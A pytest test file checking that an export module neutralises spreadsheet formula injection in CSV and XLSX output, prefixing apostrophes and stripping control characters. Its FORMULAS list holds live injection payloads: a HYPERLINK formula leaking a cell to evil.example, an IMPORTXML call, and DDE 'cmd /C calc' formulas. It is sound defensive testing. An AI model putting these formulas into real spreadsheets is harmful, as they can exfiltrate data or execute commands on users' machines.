"""Exports: no cell is ever a formula, in CSV or XLSX, whatever somebody typed."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from core.spreadsheets import MOST_CHARACTERS, csv_lines, neutral, xlsx

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
]
HARMLESS = ["早报", "2.15%", "'已加引号", "a=b", "第1期-第2期", "张三@示范银行", ""]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutral(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_numbers_and_dates_of_the_program_keep_their_sign() -> None:
    assert [neutral(value) for value in (-3, Decimal("-0.12"), date(2026, 3, 2), None)] == [
        "-3",
        "-0.12",
        "2026-03-02",
        "",
    ]


def test_control_characters_and_excess_are_taken_out() -> None:
    assert neutral("甲\x00乙\x08丙\ud800丁\uffff戊\n己") == "甲 乙 丙 丁 戊\n己"
    assert len(neutral("长" * 40_000)) == MOST_CHARACTERS


def test_a_csv_file_reads_back_cell_by_cell() -> None:
    text = "".join(csv_lines(["=名称", "值"], [[value, -1] for value in FORMULAS]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == ["'=名称", "值"]
    assert len(rows) == len(FORMULAS) + 1
    assert all(name.startswith("'") and value == "-1" for name, value in rows[1:])


def test_a_separator_or_quote_does_not_start_a_cell_of_its_own() -> None:
    nested = 'x",=1+1,"y\r\n=2+2;=3\t=4'
    rows = list(
        csv.reader(StringIO("".join(csv_lines(["a"], [[nested]])).removeprefix("\ufeff"), newline=""))
    )
    assert rows == [["a"], [nested.replace("\r", " ")]]


def test_every_cell_of_a_workbook_is_a_string() -> None:
    rows = [[value, Decimal("-1.5")] for value in [*FORMULAS, *HARMLESS]]
    sheet = load_workbook(BytesIO(xlsx(["=名称", "值"], rows))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) == 2 * (len(rows) + 1) - 1
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(str(cell.value).startswith(("=", "+", "@")) for cell in cells)
